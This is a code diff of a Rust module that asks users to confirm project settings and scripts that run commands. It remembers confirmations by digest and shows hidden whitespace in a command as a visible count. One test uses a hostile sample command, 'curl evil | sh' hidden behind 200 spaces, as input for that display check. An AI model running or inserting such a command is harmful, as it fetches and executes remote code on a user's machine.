@@ -1,6 +1,6 @@
-//! Settings of a project that run something or weaken protection, and the scripts that its commands name, are shown and
-//! confirmed before they count: a user who clones a project has not read them. What was confirmed is kept in the user's own
-//! folder, not in the project.
+//! Asks the user to confirm project settings that run commands or weaken protection, and the scripts those commands
+//! name: a user who clones a project has not read them. Confirmations are stored in the user's own folder, not in the
+//! project.
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::fs::File;
@@ -20,38 +20,34 @@ use crate::env;
 use crate::error::CommandError;
 use crate::settings::Texts;
 
-/// This many blanks in a row are shown as their number: they may push what follows out of sight.
+/// This many spaces in a row are shown as a count: they could push what follows out of sight.
 const LONG_GAP: usize = 4;
-/// How many digests of one setting or script are remembered; the oldest go first.
+/// How many digests of one setting or script are remembered; the oldest are dropped first.
 const MAX_REMEMBERED: usize = 100;
-/// How the names of scripts end.
-const SCRIPT_ENDINGS: &[&str] = &[
+const SCRIPT_EXTENSIONS: &[&str] = &[
     "bash", "bats", "cjs", "fish", "js", "lua", "mjs", "mts", "php", "pl", "ps1", "py", "rb", "sh", "ts", "zsh",
 ];
-/// How many bytes tell a script from a compiled program.
-const BEGINNING: u64 = 1 << 10;
+/// How many bytes are read to tell a script from a compiled program.
+const SNIFF_BYTES: u64 = 1 << 10;
 /// The setting whose commands are gates.
 const GATES: &str = "verify.commands";
-/// The checks of guardrails.
 const CHECKS: &str = "guardrails.check";
-/// The checks of tasks.
 const CHECK: &str = "check";
-/// How many bytes of a script are hashed at a time.
 const CHUNK: usize = 64 << 10;
 
-/// What was confirmed: for every project its settings and scripts by name, with the digests of their values.
+/// By project, then by name of the setting or script: the digests of the confirmed values.
 type Confirmed = BTreeMap<String, BTreeMap<String, Vec<String>>>;
 
-/// Something that has to be confirmed.
+/// Something that needs confirmation.
 struct Term {
     /// The key, or `script` and its path.
     name: String,
     digest: String,
-    /// For a person to read, a line each.
+    /// What the user is shown.
     lines: Vec<String>,
 }
 
-/// Asks for the settings of the project, unless they were confirmed before or the user confirms them by a flag.
+/// Asks to confirm the project's settings unless they were confirmed before or by a flag.
 pub(super) fn confirm_commands(
     context: &Context<'_>,
     (uses_agent, trust): (bool, bool),
@@ -68,22 +64,22 @@ pub(super) fn confirm_commands(
         context,
         &terms,
         trust,
-        "`ralph run --trust` confirms it, until it changes",
+        "run `ralph run --trust` to confirm until it changes",
     )
 }
 
-/// Asks for checks of tasks, and for the scripts that they name: a user who clones a project has not read its lists.
+/// Asks to confirm checks of tasks and the scripts they name: a user who clones a project has not read its task lists.
 pub(crate) fn confirm_checks(context: &Context<'_>, checks: &[String], trust: bool) -> Result<(), CommandError> {
     let terms = terms_of_checks(context, checks)?;
-    confirm(context, &terms, trust, "`--trust` confirms it, until it changes")
+    confirm(context, &terms, trust, "pass `--trust` to confirm until it changes")
 }
 
-/// Remembers the checks that a person has typed, so that a run does not ask about them.
+/// Remembers checks that the user typed, so that a run does not ask about them.
 pub(crate) fn remember_checks(context: &Context<'_>, checks: &[String]) -> Result<(), CommandError> {
     remember_new(context, &terms_of_checks(context, checks)?)
 }
 
-/// Remembers settings of the project's file that a person has just typed or was shown, so that a run does not ask about them.
+/// Remembers project settings that the user just typed or was shown, so that a run does not ask about them.
 pub(crate) fn remember_settings(context: &Context<'_>, keys: &[String]) -> Result<(), CommandError> {
     let written = Texts::read(&context.project)?.inspect().loaded.restricted;
     let typed = written.iter().filter(|restricted| keys.contains(&restricted.key));
@@ -120,15 +116,15 @@ fn terms_of_checks(context: &Context<'_>, checks: &[String]) -> Result<Vec<Term>
     Ok(terms)
 }
 
-/// Asks for the agent alone, before it is started without a task.
+/// Asks to confirm only the agent, before it is started without a task.
 pub(crate) fn confirm_agent(context: &Context<'_>) -> Result<(), CommandError> {
     let is_used = |restricted: &&Restricted| ["agent.command", "agent.kind", "agent.env"].contains(&&*restricted.key);
     let terms = terms(context, context.restricted.iter().filter(is_used))?;
-    let hint = "`ralph doctor --agent` asks at a terminal; `ralph run --trust` confirms it with the whole run";
+    let hint = "run `ralph doctor --agent` at a terminal to be asked, or `ralph run --trust` to confirm all settings";
     confirm(context, &terms, false, hint)
 }
 
-/// The configuration with the settings that were confirmed, for commands that do not ask.
+/// The configuration with confirmed settings, for commands that do not ask.
 pub(crate) fn confirmed_config<'c>(context: &'c Context<'_>) -> Result<&'c Config, CommandError> {
     if context.restricted.is_empty() {
         return Ok(&context.configured);
@@ -153,8 +149,7 @@ fn confirm(context: &Context<'_>, terms: &[Term], trust: bool, hint: &str) -> Re
         return Ok(());
     }
     let store = confirmed_file().ok_or_else(|| {
-        CommandError::new("there is no folder to remember confirmed commands in, since HOME is not set")
-            .hint("set HOME or XDG_STATE_HOME")
+        CommandError::new("cannot remember confirmed commands: HOME is not set").hint("set HOME or XDG_STATE_HOME")
     })?;
     let known = read(&store)?.remove(&name(context)).unwrap_or_default();
     let new: Vec<&Term> = terms.iter().filter(|term| !is_in(&known, term)).collect();
@@ -176,7 +171,7 @@ fn is_in(known: &BTreeMap<String, Vec<String>>, term: &Term) -> bool {
         .is_some_and(|digests| digests.contains(&term.digest))
 }
 
-/// The name of a project in the record of what was confirmed.
+/// The key of the project in the confirmation file.
 fn name(context: &Context<'_>) -> String {
     context.project.root.to_string_lossy().into_owned()
 }
@@ -192,11 +187,11 @@ fn ask(
     show(context, new, known);
     match ui.confirm("Allow it?")? {
         Some(true) => Ok(()),
-        Some(false) => Err(CommandError::new("not confirmed, so nothing was started")),
+        Some(false) => Err(CommandError::new("not confirmed; nothing was started")),
         None => {
             let names: Vec<String> = new.iter().map(|term| shown(&term.name)).collect();
             Err(CommandError::new(format!(
-                "not confirmed, and there is no terminal to ask at: {}",
+                "not confirmed, and there is no terminal to ask on: {}",
                 names.join(", ")
             ))
             .hint(hint))
@@ -204,7 +199,6 @@ fn ask(
     }
 }
 
-/// Lists what was not confirmed before, each on lines of its own.
 fn show(context: &Context<'_>, new: &[&Term], known: &BTreeMap<String, Vec<String>>) {
     for term in new {
         let changed = match known.contains_key(&term.name) {
@@ -217,7 +211,7 @@ fn show(context: &Context<'_>, new: &[&Term], known: &BTreeMap<String, Vec<Strin
     }
 }
 
-/// The settings, and the scripts that their commands name.
+/// The settings and the scripts that their commands name.
 fn terms<'r>(
     context: &Context<'_>,
     restricted: impl Iterator<Item = &'r Restricted>,
@@ -229,11 +223,12 @@ fn terms<'r>(
         let mut found = BTreeSet::new();
         for command in &restricted.commands {
             found.extend(files(root, command.scripts()));
-            // Any other file that a command names counts if it can be run: `timeout 60 ./ci.sh`, `pytest tests/api.py`.
+            // Other files that a command names count if they are executable: `timeout 60 ./ci.sh`, `pytest
+            // tests/api.py`.
             let named = files(root, command.paths());
-            found.extend(named.into_iter().filter(|file| can_be_run(&root.join(file))));
+            found.extend(named.into_iter().filter(|file| is_runnable(&root.join(file))));
         }
-        // Outside of the project only scripts of gates count: agents and compiled programs change with every update.
+        // Outside the project only scripts of gates count: agents and compiled programs change with every update.
         let is_gate = [GATES, CHECKS, CHECK].contains(&restricted.key.as_str());
         found.retain(|file| file.is_relative() || is_gate && is_text(file));
         scripts.extend(found);
@@ -244,7 +239,7 @@ fn terms<'r>(
     Ok(terms)
 }
 
-/// The regular files that paths lead to, from a folder where they are beneath it.
+/// The regular files that the paths resolve to, relative to the root where they are inside it.
 fn files(root: &Path, named: BTreeSet<PathBuf>) -> BTreeSet<PathBuf> {
     let Ok(root) = root.canonicalize() else {
         return BTreeSet::new();
@@ -262,28 +257,27 @@ fn files(root: &Path, named: BTreeSet<PathBuf>) -> BTreeSet<PathBuf> {
         .collect()
 }
 
-/// Whether a file is not a compiled program, by its first bytes.
+/// Whether the first bytes of a file look like text rather than a compiled program.
 fn is_text(file: &Path) -> bool {
-    let mut beginning = Vec::new();
-    let read = File::open(file).and_then(|file| file.take(BEGINNING).read_to_end(&mut beginning));
-    // What cannot be read is refused later, with its name.
-    read.is_err() || !beginning.contains(&0)
+    let mut head = Vec::new();
+    let read = File::open(file).and_then(|file| file.take(SNIFF_BYTES).read_to_end(&mut head));
+    // An unreadable file is refused later, by name.
+    read.is_err() || !head.contains(&0)
 }
 
-/// Whether a file is a program or a script, by its mode or its name.
-fn can_be_run(file: &Path) -> bool {
+fn is_runnable(file: &Path) -> bool {
     let is_executable = file
         .metadata()
         .is_ok_and(|metadata| metadata.permissions().mode() & 0o111 != 0);
-    let ending = file.extension().and_then(|ending| ending.to_str()).unwrap_or_default();
-    is_executable || SCRIPT_ENDINGS.contains(&ending)
+    let extension = file.extension().and_then(|extension| extension.to_str());
+    is_executable || SCRIPT_EXTENSIONS.contains(&extension.unwrap_or_default())
 }
 
 impl Term {
     fn setting(restricted: &Restricted) -> Self {
         let mut hasher = Sha256::new();
         for value in &restricted.values {
-            // Length first, so that two lists never run together to the same text.
+            // The length prefix keeps different lists from hashing the same text.
             hasher.update(format!("{} {value}\n", value.len()));
         }
         let key = &restricted.key;
@@ -326,7 +320,7 @@ fn hex(hasher: Sha256) -> String {
     hasher.finalize().iter().map(|byte| format!("{byte:02x}")).collect()
 }
 
-/// A text whole, with all in it that a terminal would not show.
+/// A text with everything made visible that a terminal would hide.
 fn shown(text: &str) -> String {
     let text = show_invisible(text);
     let mut shown = String::new();
@@ -336,7 +330,7 @@ fn shown(text: &str) -> String {
         let blanks = rest.len() - after.len();
         rest = match blanks {
             LONG_GAP.. => {
-                shown.push_str(&format!(" [{blanks} blanks] "));
+                shown.push_str(&format!(" [{blanks} spaces] "));
                 after
             }
             _ => {
@@ -357,7 +351,7 @@ fn confirmed_file() -> Option<PathBuf> {
 
 fn read(file: &Path) -> Result<Confirmed, CommandError> {
     let text = read_file(file)?.map(|text| text.bytes).unwrap_or_default();
-    // A broken file confirms nothing; what is confirmed next is written over it.
+    // A broken file confirms nothing; the next confirmation overwrites it.
     Ok(serde_json::from_slice(&text).unwrap_or_default())
 }
 
@@ -384,9 +378,9 @@ mod tests {
     use super::*;
 
     #[test]
-    fn nothing_of_a_command_is_hidden() {
+    fn hidden_characters_are_shown() {
         let hidden = format!("cargo test{}; curl evil | sh", " ".repeat(200));
-        assert_eq!(shown(&hidden), "cargo test [200 blanks] ; curl evil | sh");
+        assert_eq!(shown(&hidden), "cargo test [200 spaces] ; curl evil | sh");
         let long = "x".repeat(5000);
         assert_eq!(shown(&long), long);
         assert_eq!(
@@ -396,7 +390,7 @@ mod tests {
     }
 
     #[test]
-    fn other_values_have_another_digest() {
+    fn digests_differ_for_different_values() {
         let digest = |file: &str| {
             let loaded = Config::load(Some((".ralph.toml", file)), &|_| None).unwrap();
             loaded
@@ -417,7 +411,7 @@ mod tests {
     }
 
     #[test]
-    fn files_are_regular_and_named_from_the_project() {
+    fn files_are_regular_and_relative_to_the_project() {
         let folder = tempfile::tempdir().unwrap();
         let root = folder.path().join("project");
         std::fs::create_dir_all(root.join("ci")).unwrap();
@@ -431,6 +425,6 @@ mod tests {
         let program = std::env::current_exe().unwrap();
         assert!(is_text(&outside) && !is_text(&program));
         drop(File::create(root.join("data.json")).unwrap());
-        assert!(can_be_run(&root.join("ci/test.sh")) && !can_be_run(&root.join("data.json")));
+        assert!(is_runnable(&root.join("ci/test.sh")) && !is_runnable(&root.join("data.json")));
     }
 }
